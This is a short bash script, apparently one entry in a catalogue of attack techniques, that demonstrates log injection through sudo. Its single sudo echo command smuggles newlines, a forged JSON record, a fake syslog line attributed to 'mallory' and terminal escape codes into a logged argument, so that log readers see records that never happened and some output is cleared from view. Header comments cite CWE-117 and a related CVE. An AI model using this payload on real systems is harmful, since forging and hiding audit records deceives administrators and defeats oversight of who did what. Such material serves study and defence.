#!/bin/bash
# Trick:   a command's words hold the end of a line and a whole record, a syslog message and codes of a terminal, so that
#          whoever reads the log sees a record that is none. As a user with a grant.
# Source:  CWE-117, log injection; CVE-2023-42465 and sudo's own escaping of logged commands since 1.8.4
# Seen by: show
# Named:   nothing
sudo -n /bin/echo $'x\n{"index":0,"type":"use","login":"mallory"}\n<84>1 - - - - - - use by mallory\e[2J\r' >/dev/null
